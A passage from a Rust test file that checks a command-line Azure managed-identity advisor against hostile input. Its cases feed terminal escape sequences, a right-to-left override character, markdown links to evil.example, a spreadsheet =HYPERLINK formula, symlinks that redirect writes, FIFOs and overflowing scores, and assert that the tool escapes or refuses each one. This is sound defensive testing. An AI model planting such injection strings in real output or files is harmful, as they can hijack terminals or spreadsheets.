            0,
        )
        .out(&["\x1b[1mRecommendation:\x1b[0m"])
        .not_out(&["\x1b]0;", "\x1b[2J", "\x1b[31mred", "\r", "\u{202e}"]),
        with_rules("hostile catalog: models table", hostile_rules, &["models"], 0)
            .out(&["\\x1b]0;pwned"]),
        with_rules("hostile catalog: questions table", hostile_rules, &["questions"], 0)
            .out(&["What \\x1b[2Jneeds\\u{202e} to reach Azure?"]),
        with_rules("hostile catalog: prompts on stderr", hostile_rules, &["advise"], 0)
            .stdin("workload\n\n\n\n\n\n\n\n\n\n\n")
            .err(&["[1/10] What \\x1b[2Jneeds\\u{202e} to reach Azure?"]),
        with_rules("hostile catalog: JSON stays exact", hostile_rules, &["show", "workload", "-o", "json"], 0)
            .out(&["Workload\\u001b]0;pwned\\u0007ID\\u001b[2J \u{202e}di", "sh\\raz aks update"])
            .exact(),
        hostile("an argument value in an error", |_| {}, &["show", "x\x1b[2J\u{202e}"], 2)
            .err(&["unknown model `x\\x1b[2J\\u{202e}`"]),
        hostile("a path in an error", |_| {}, &["--rules", "no\x1b]0;t\x07where", "compare"], 2)
            .err(&["rules folder no\\x1b]0;t\\x07where does not exist"]),
        hostile("an environment value in an error", |_| {}, &["compare"], 2)
            .env("AKS_ID_RULES", "env\x1b[2Jdir")
            .err(&["rules folder env\\x1b[2Jdir does not exist"]),
        hostile("an answers path in an error", |_| {}, &["advise", "--no-input", "--answers", "a\rb.yaml"], 2)
            .err(&["answers file a\\rb.yaml does not exist"]),
        hostile("a rules folder path in `rules check`", |d| write_builtin(&d.join("r\x1b[2J")), &["rules", "check", "r\x1b[2J"], 0)
            .out(&["r\\x1b[2J: ok ("]),
        // 7. Markdown and CSV: escaped for their context.
        with_rules("hostile catalog: show markdown", hostile_rules, &["show", "workload", "-o", "markdown"], 0)
            .out(&["````sh\n", "\\[x\\](https\\://evil.example) !\\[i\\]"])
            .not_out(&["[x](", "![i](", "\n```\n# Injected heading", "\x1b"]),
        with_rules("hostile catalog: advise markdown", hostile_rules, &["advise", "--no-input", "-o", "markdown"], 0)
            .out(&["   ````sh\n", "# Decision record: Use Workload\\\\x1b\\]0;pwned"])
            .not_out(&["[x](", injected_heading]),
        with_rules("hostile catalog: compare markdown", hostile_rules, &["compare", "-o", "markdown"], 0)
            .out(&["| **=HYPERLINK(\"https\\://evil.example\") \\\\x1b\\[2J** |", "[Evil\\](https\\://evil.example) \\\\x1b\\[31mred](https://learn.microsoft.com/azure/aks/managed-identity-overview)"])
            .not_out(&["[x](", "](https://evil"]),
        with_rules("hostile catalog: compare csv", hostile_rules, &["compare", "-o", "csv"], 0)
            .out(&["overview,\"'=HYPERLINK(\"\"https://evil.example\"\") \\x1b[2J\","]),
        // 8. Reads: bounded, regular files only.
        hostile("answers from /dev/zero", |_| {}, &["advise", "--no-input", "--answers", "/dev/zero"], 2)
            .err(&["answers file /dev/zero is a device, not a regular file", "--answers -"]),
        hostile("answers from a FIFO", |d| fifo(&d.join("fifo.yaml")), &["advise", "--no-input", "--answers", "fifo.yaml"], 2)
            .err(&["answers file fifo.yaml is a FIFO (named pipe), not a regular file"]),
        hostile("answers from /dev/stdin on a pipe, like <(yes)", |_| {}, &["advise", "--no-input", "--answers", "/dev/stdin"], 2)
            .stdin("y\n".repeat(100_000))
            .err(&["answers file /dev/stdin is a FIFO (named pipe), not a regular file"]),
        Hostile {
            setup: |d| {
                write_builtin(&d.join("rules"));
                fifo(&d.join("rules/models/extra.yaml"));
            },
            ..with_rules("a FIFO in a rules folder", |_| {}, &["compare"], 2)
        }
        .err(&["rules/models/extra.yaml: is a FIFO (named pipe), not a regular file"]),
        Hostile {
            setup: |d| {
                write_builtin(&d.join("rules"));
                fs::remove_file(d.join("rules/rules.yaml")).unwrap();
                fifo(&d.join("rules/rules.yaml"));
            },
            ..with_rules("a FIFO for rules.yaml", |_| {}, &["rules", "check"], 2)
        }
        .err(&["rules/rules.yaml: is a FIFO (named pipe), not a regular file"]),
        // 3. Writes: never through a link, all or nothing, only the owned files.
        hostile(
            "export --force over a link to a file outside the folder (reproducer)",
            |d| {
                fs::write(d.join("outside.txt"), "precious").unwrap();
                fs::create_dir(d.join("out")).unwrap();
                std::os::unix::fs::symlink(d.join("outside.txt"), d.join("out/catalog.yaml")).unwrap();
            },
            &["rules", "export", "--force", "out"],
            0,
        )
        .out(&["wrote out/catalog.yaml"])
        .after(|d| {
            assert_eq!(fs::read_to_string(d.join("outside.txt")).unwrap(), "precious");
            let link = fs::symlink_metadata(d.join("out/catalog.yaml")).unwrap();
            assert!(link.is_file(), "the link itself was replaced by the file");
            assert_eq!(entries(d), ["out", "outside.txt"]);
        }),
        hostile(
            "export without --force over a dangling link (reproducer)",
            |d| {
                fs::create_dir(d.join("out")).unwrap();
                std::os::unix::fs::symlink(d.join("created-outside.yaml"), d.join("out/rules.yaml")).unwrap();
            },
            &["rules", "export", "out"],
            2,
        )
        .err(&["out/rules.yaml is a symbolic link; refusing to write through it"])
        .after(|d| {
            assert_eq!(entries(d), ["out"], "nothing created outside, no temporary folder");
            assert_eq!(entries(&d.join("out")), ["rules.yaml"]);
        }),
        hostile(
            "export --force over a dangling link",
            |d| {
                fs::create_dir(d.join("out")).unwrap();
                std::os::unix::fs::symlink(d.join("created-outside.yaml"), d.join("out/rules.yaml")).unwrap();
            },
            &["rules", "export", "--force", "out"],
            0,
        )
        .after(|d| {
            assert_eq!(entries(d), ["out"], "nothing created outside");
            assert!(fs::symlink_metadata(d.join("out/rules.yaml")).unwrap().is_file());
        }),
        hostile(
            "export into a folder that is a link",
            |d| {
                fs::create_dir(d.join("real")).unwrap();
                std::os::unix::fs::symlink(d.join("real"), d.join("out")).unwrap();
            },
            &["rules", "export", "--force", "out"],
            2,
        )
        .err(&["out is a symbolic link; refusing to write through it"])
        .after(|d| assert!(entries(&d.join("real")).is_empty())),
        hostile(
            "export with models/ a link to another folder",
            |d| {
                fs::create_dir_all(d.join("out")).unwrap();
                fs::create_dir(d.join("elsewhere")).unwrap();
                std::os::unix::fs::symlink(d.join("elsewhere"), d.join("out/models")).unwrap();
            },
            &["rules", "export", "--force", "out"],
            2,
        )
        .err(&["out/models is a symbolic link; refusing to write through it"])
        .after(|d| {
            assert!(entries(&d.join("elsewhere")).is_empty());
            assert_eq!(entries(&d.join("out")), ["models"]);
        }),
        hostile(
            "export --force replaces only the owned files, and a refused run leaves nothing",
            |d| {
                fs::create_dir(d.join("out")).unwrap();
                fs::write(d.join("out/notes.txt"), "mine").unwrap();
                fs::write(d.join("out/rules.yaml"), "old").unwrap();
                // In the way: a folder where schema.json goes.
                fs::create_dir_all(d.join("out/schema.json/inside")).unwrap();
            },
            &["rules", "export", "--force", "out"],
            2,
        )
        .err(&["out/schema.json is in the way"])
        .after(|d| {
            assert_eq!(fs::read_to_string(d.join("out/rules.yaml")).unwrap(), "old");
            assert_eq!(entries(&d.join("out")), ["notes.txt", "rules.yaml", "schema.json"]);
            assert_eq!(entries(d), ["out"], "no temporary folder left");
            fs::remove_dir_all(d.join("out/schema.json")).unwrap();
            let run = run_cmd(aks_id().current_dir(d).args(["rules", "export", "--force", "out"]));
            assert_eq!(run.code, 0, "a rerun works: {}", run.stderr);
            assert_eq!(fs::read_to_string(d.join("out/notes.txt")).unwrap(), "mine");
            let mut owned = builtin_files();
            owned.retain(|f| !f.contains('/'));
            owned.extend(["models".to_owned(), "notes.txt".to_owned()]);
            owned.sort();
            assert_eq!(entries(&d.join("out")), owned);
            assert_eq!(entries(d), ["out"]);
        }),
        hostile(
            "export refuses existing files without --force and writes nothing",
            |d| {
                fs::create_dir(d.join("out")).unwrap();
                fs::write(d.join("out/questions.yaml"), "old").unwrap();
            },
            &["rules", "export", "out"],
            2,
        )
        .err(&["refusing to overwrite existing files (use --force to replace them): out/questions.yaml"])
        .after(|d| assert_eq!(entries(&d.join("out")), ["questions.yaml"])),
        // 4. Scores: bounded per rule, no overflow.
        with_rules("a score of i64::MIN (reproducer)", |d| score_rules(d, "-9223372036854775808"), &["rules", "check"], 2)
            .err(&["score -9223372036854775808 for `workload` is out of range; a rule changes a score by -1000 to 1000"]),
        with_rules("a score of i64::MAX", |d| score_rules(d, "9223372036854775807"), &["advise", "--no-input"], 2)
            .err(&["is out of range; a rule changes a score by -1000 to 1000"]),
        with_rules("a score at the bound", |d| score_rules(d, "-1000"), &["rules", "check"], 0)
            .out(&[": ok ("]),
        // 5. Digit choice ids: the id wins, and `rules check` warns.
        with_rules("a digit id wins over a position (reproducer)", digit_choices, &["advise", "--no-input", "--set", "zones=1", "-o", "json"], 0)
            .out(&["\"zones\": \"1\""])
            .exact(),
        with_rules("a position still picks where no id matches", digit_choices, &["advise", "--no-input", "--set", "zones=4", "-o", "json"], 2)
            .err(&["question `zones`: no choice has the number `4`"]),
        with_rules("rules check warns on digit ids", digit_choices, &["rules", "check"], 0)
            .out(&[": ok ("])
            .err(&["aks-id: warning: rules/questions.yaml: question `zones`: choice id `3` is made of digits: the answer `3` picks this choice (number 1), not choice number 3"]),
        // 9. Work linear in the input: these finish (a quadratic step took minutes).
        with_rules("2,000 chained asked_when questions", |d| many_questions(d, 2_000, true), &["advise", "--no-input", "-o", "json"], 0)
            .out(&["\"g1999\": true"])
            .exact(),
        with_rules("10,000 questions answered by piped lines", |d| many_questions(d, 10_000, false), &["advise", "-o", "json"], 0)
            .stdin("\n".repeat(10_020))
            .out(&["\"g9999\": true"])
            .exact(),
        with_rules(
            "10,000 choices, 10,000 conditions naming them, an answer listing 6,000",
            many_choices,
            &["advise", "--no-input", "--answers", "a.yaml", "-o", "json"],
            0,
        )
        .out(&["\"c5999\""])
        .exact(),
        with_rules("40,000 sources", many_sources, &["advise", "--no-input", "-o", "markdown"], 0)
            .out(&["[Page 39999](https://example.com/39999)"]),
        hostile("a model repeated in --models", |_| {}, &["compare", "--models", &"pod,".repeat(10_000)], 2)
            .err(&["model `pod` is listed twice in --models"]),
        hostile("a row repeated in --rows", |_| {}, &["compare", "--rows", "scope,overview,scope"], 2)
            .err(&["row `scope` is listed twice in --rows"]),
        with_rules("an unknown question in a catalog of 10,000: a short message", |d| many_questions(d, 10_000, false), &["advise", "--no-input", "--set", "nope=1"], 2)
            .err(&["unknown question `nope`; questions: scope,", "g8 and 9991 more"]),
        // 10. Messages.
        hostile("a piped answer of exactly 65,536 bytes is read", |_| {}, &["advise"], 2)
            .stdin(format!("{}\n", "x".repeat(65_536)))
            .err(&["stdin line 1: question `scope`: unknown choice `xxx"]),
        hostile("answers on stdin of exactly 65,536 bytes are read", |_| {}, &["advise", "--no-input", "--answers", "-", "-o", "json"], 0)
            .stdin(format!("scope: pod\n{}\n", "#".repeat(65_536 - 12)))
            .out(&["\"scope\": \"pod\""])
            .exact(),
        hostile("`none` with other choices", |_| {}, &["advise", "--no-input", "--set", "targets=none,key-vault"], 2)
            .err(&["question `targets`: `none` means no choice and cannot be combined with other choices: `none,key-vault`"]),
        answers_case("`none` with other choices in a file", "targets: [none, sql]\n", 2)
            .err(&["cannot be combined with other choices"]),
        answers_case("an answers file holding null", "null\n", 2)
            .err(&["a.yaml:1:1: the answers file holds `null`"]),
        hostile("an empty AKS_ID_RULES", |_| {}, &["compare"], 2)
            .env("AKS_ID_RULES", "")
            .err(&["AKS_ID_RULES is set but empty: set it to a rules folder"]),
        Hostile {
            setup: |d| {
                write_builtin(&d.join("rules"));
                fs::rename(d.join("rules/models/pod.yaml"), d.join("rules/models/pod.yml")).unwrap();
            },
            ..with_rules("a model file ending in .yml", |_| {}, &["rules", "check"], 2)
        }
        .err(&["rules/models/pod.yml: model files end in `.yaml`; rename this one to `pod.yaml` to load it"]),
        hostile("0x10 with --set, as in YAML", |_| {}, &["advise", "--no-input", "--set", "service_accounts=0x10", "-o", "json"], 0)
            .out(&["\"service_accounts\": 16"])
            .exact(),
        answers_case("0x10 in an answers file", "service_accounts: 0x10\n", 0)
            .out(&["\"service_accounts\": 16"])
            .exact(),
        hostile("2^63 with --set", |_| {}, &["advise", "--no-input", "--set", "service_accounts=9223372036854775808"], 2)
            .err(&["question `service_accounts`: out of range: `9223372036854775808`"]),
        answers_case("2^63 in an answers file", "service_accounts: 9223372036854775808\n", 2)
            .err(&["a.yaml:1:19: question `service_accounts`: out of range: `9223372036854775808`"]),
        hostile("a fraction is not a whole number", |_| {}, &["advise", "--no-input", "--set", "service_accounts=1.5"], 2)
            .err(&["not a whole number: `1.5`"]),
    ]
}

/// `advise --no-input -o json --answers a.yaml` with `text` in a.yaml.
fn answers_case(name: &'static str, text: &'static str, code: i32) -> Hostile {
    let mut case = hostile(
        name,
        |_| {},
        &["advise", "--no-input", "-o", "json", "--answers", "a.yaml"],
        code,
    );
    case.stdin = text.as_bytes().to_vec();
    case.setup = |_| {};
    case
}

#[cfg(unix)]
#[test]
fn every_rule_holds_against_hostile_input() {
    let cases = hostile_cases();
    let queue = std::sync::Mutex::new(cases);
    let failed = std::sync::Mutex::new(Vec::new());
    std::thread::scope(|scope| {
        for _ in 0..3 {
            scope.spawn(|| {
                loop {
                    let Some(case) = queue.lock().unwrap().pop() else {
                        break;
                    };
                    if std::panic::catch_unwind(|| check_hostile(&case)).is_err() {
                        failed.lock().unwrap().push(case.name);
                    }
                }
            });
        }
    });
    let failed = failed.into_inner().unwrap();
    assert!(failed.is_empty(), "failing cases: {failed:#?}");
}

fn check_hostile(case: &Hostile) {
    let dir = TempDir::new().unwrap();
    (case.setup)(dir.path());
    let mut cmd = aks_id();
    cmd.current_dir(dir.path())
        .args(&case.args)
        .timeout(TIMEOUT);
    for (key, value) in &case.env {
        cmd.env(key, value);
    }
    if case.args.iter().any(|a| a == "a.yaml") && !case.stdin.is_empty() {
        fs::write(dir.path().join("a.yaml"), &case.stdin).unwrap();
    } else {
        cmd.write_stdin(case.stdin.clone());
    }
    let name = case.name;
    // The reproducer of the first rule: stderr is a full device.
    if name.contains("full stderr") {
        let out = aks_id_std()
            .current_dir(dir.path())
            .args(&case.args)
            .stdin(Stdio::null())
            .stderr(fs::File::create("/dev/full").unwrap())
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(case.code), "{name}");
        let stdout = String::from_utf8(out.stdout).unwrap();
        for text in &case.stdout_has {
            assert!(
                stdout.contains(text.as_str()),
                "{name}: {text:?} not in\n{stdout}"
            );
        }
        return;
    }
    let out = cmd.output().expect("aks-id runs");
    let code = out.status.code().expect("aks-id exits, not killed");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(code, case.code, "{name}: exit code; stderr:\n{stderr}");
    for banned in ["panicked", "stack backtrace"] {
        assert!(!stderr.contains(banned), "{name}: {banned:?} in\n{stderr}");
    }
    let hidden = |text: &str| {
        text.chars()
            .find(|c| *c != '\n' && aks_id::display::is_hidden(*c))
    };
    assert_eq!(
        hidden(&stderr),
        None,
        "{name}: a hidden character on stderr:\n{stderr:?}"
    );
    // CSV records end with CRLF (RFC 4180); a carriage return anywhere else is hidden text.
    let shown = stdout.replace("\r\n", "\n");
    let coloured = case.args.iter().any(|a| a == "always");
    if !case.exact && !coloured {
        assert_eq!(hidden(&shown), None, "{name}: a hidden character on stdout");
    }
    for text in &case.stdout_has {
        assert!(
            stdout.contains(text.as_str()),
            "{name}: {text:?} not in stdout:\n{stdout}"
        );
    }
    for text in &case.stdout_lacks {
        assert!(
            !stdout.contains(text.as_str()),
            "{name}: {text:?} in stdout:\n{stdout}"
        );
    }
    for text in &case.stderr_has {
        assert!(
            stderr.contains(text.as_str()),
            "{name}: {text:?} not in stderr:\n{stderr}"
        );
    }
    (case.after)(dir.path());
}

/// The engine adds scores with saturation: even a catalog that skipped validation (scores are
/// bounded per rule at load time) cannot wrap a score around and make a vetoed model win.
#[test]
fn scores_saturate_instead_of_wrapping() {
    use aks_id::catalog::{Keyed, List, Rule};
    let mut catalog = aks_id::catalog::builtin::load().expect("the built-in catalog loads");
    let answers = aks_id::advise::interview::run(
        &catalog,
        Vec::new(),
        &mut aks_id::advise::interview::Defaults,
    )
    .expect("defaults")
    .answers;
    let before = aks_id::advise::engine::evaluate(&catalog, answers.clone(), Vec::new())
        .recommendation
        .map(|r| r.model.to_owned());
    assert_eq!(before.as_deref(), Some("workload"));
    for (n, score) in [i64::MIN, -1, i64::MAX, i64::MAX].into_iter().enumerate() {
        let change = Keyed::owned(vec![
            ("cluster".into(), score),
            ("workload".into(), if n < 2 { score } else { 0 }),
        ]);
        catalog.rules.push(Rule {
            id: format!("extreme-{n}").into(),
            when: None,
            reason: Some("extreme".into()),
            score: change,
            exclude: List::new(),
            caveats: List::new(),
            steps: List::new(),
            grants: List::new(),
            sources: List::new(),
            summary: None,
            warning: None,
        });
    }
    let advice = aks_id::advise::engine::evaluate(&catalog, answers, Vec::new());
    let score = |id: &str| advice.ranking.iter().find(|r| r.model == id).unwrap().score;
    assert!(
        score("workload") < i64::MIN / 2,
        "stays low, not wrapped high"
    );
    assert!(score("cluster") > i64::MAX / 2, "no overflow on the way up");
    // `cluster` is excluded by the built-in rules for these answers: a huge score does not
    // make it the recommendation.
    assert!(
        advice
            .ranking
            .iter()
            .any(|r| r.model == "cluster" && r.excluded)
    );
    assert_ne!(advice.recommendation.map(|r| r.model), Some("cluster"));
}
